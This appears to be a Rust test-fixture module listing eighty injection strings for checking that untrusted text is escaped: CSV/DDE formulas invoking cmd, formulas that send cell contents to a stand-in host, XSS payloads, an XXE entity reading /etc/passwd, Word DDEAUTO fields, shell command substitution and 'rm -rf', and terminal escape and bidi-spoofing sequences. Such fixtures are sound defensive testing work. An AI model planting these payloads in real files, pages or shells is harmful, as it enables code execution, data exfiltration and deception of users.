//! What is put wherever text comes from outside: each is harmless as text and does something where it is not taken for text.

/// Formulas, which spreadsheets evaluate, and what reaches out of them.
const FORMULAS: [&str; 20] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "=cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "=DDE(\"soffice\";\"/etc/passwd\";\"x\")",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"点我\")",
    "=IMPORTXML(\"http://192.0.2.1/\",\"//a\")",
    "=WEBSERVICE(\"http://192.0.2.1/\")",
    "'=1+1",
    "''=1+1",
    "\"=1+1",
    "=1+1\",\"=2+2",
];

/// What a browser, or an editor of a site, takes for more than text.
const PAGES: [&str; 20] = [
    "<script>document.title='x'</script>",
    "<img src=x onerror=\"document.title='x'\">",
    "<svg onload=document.title='x'>",
    "\"><script>document.title='x'</script>",
    "'><script>document.title='x'</script>",
    "\" onmouseover=\"document.title='x'\" x=\"",
    "<iframe src=\"http://192.0.2.1/\"></iframe>",
    "<a href=\"javascript:document.title='x'\">点我</a>",
    "<style>@import 'http://192.0.2.1/a.css';</style>",
    "<link rel=stylesheet href=//192.0.2.1/>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "<base href=//192.0.2.1/>",
    "</td></tr></table><script>document.title='x'</script>",
    "</title><script>document.title='x'</script>",
    "</style><script>document.title='x'</script>",
    "<!--><script>document.title='x'</script>",
    "&lt;script&gt;document.title='x'&lt;/script&gt;",
    "&#60;script&#62;",
    "{{ 7*7 }}{% for x in y %}",
    "<plaintext><xmp><textarea>",
];

/// What XML, Word, Markdown, JSON and shells take for more than text.
const OTHERS: [&str; 20] = [
    "]]><w:p/>",
    "<![CDATA[x]]>",
    "&xxe;",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<?xml version='1.0'?>",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:r>",
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" }",
    "{ INCLUDEPICTURE \"http://192.0.2.1/a.png\" }",
    "[点我](javascript:document.title)",
    "![图](http://192.0.2.1/a.png)",
    "<http://192.0.2.1/>",
    "[a]: http://192.0.2.1/",
    "| a | b |",
    "# 一、总体情况",
    "```\ncode",
    "\",\"level\":\"error\",\"x\":\"",
    "\\u001b]0;x\\u0007\\",
    "$(touch x)`touch x`",
    "; rm -rf x #",
    "-o/--help",
];

/// What a terminal obeys, or what hides or reorders text on it.
const CONTROLS: [&str; 20] = [
    "\u{1b}[31;1m红",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[10A\u{1b}[2K",
    "\u{1b}]0;x\u{7}",
    "\u{1b}]52;c;eA==\u{7}",
    "\u{1b}]8;;http://192.0.2.1/\u{1b}\\点我\u{1b}]8;;\u{1b}\\",
    "\u{1b}P$q\"p\u{1b}\\",
    "\u{1b}[21t\u{1b}[c\u{1b}[6n",
    "\u{1b}_Gi=1;x\u{1b}\\\u{1b}^x\u{1b}\\",
    "\u{9b}31m\u{9d}0;x\u{9c}\u{90}$q",
    "\u{7}\u{7}\u{7}",
    "甲乙丙\r丁",
    "甲\u{8}\u{8}乙\u{7f}",
    "\u{202e}txt.exe\u{202c}",
    "\u{2066}甲\u{2069}\u{200f}\u{61c}",
    "甲\u{200b}\u{200d}\u{2060}\u{feff}乙",
    "甲\u{e0041}\u{e0042}\u{e007f}乙",
    "\u{301}\u{302}\u{303}",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{0}\u{1}\u{e}甲\u{f}\u{1c}\u{85}\u{2028}\u{2029}乙",
];

/// All of them.
pub(super) fn all() -> Vec<&'static str> {
    [FORMULAS, PAGES, OTHERS, CONTROLS].concat()
}
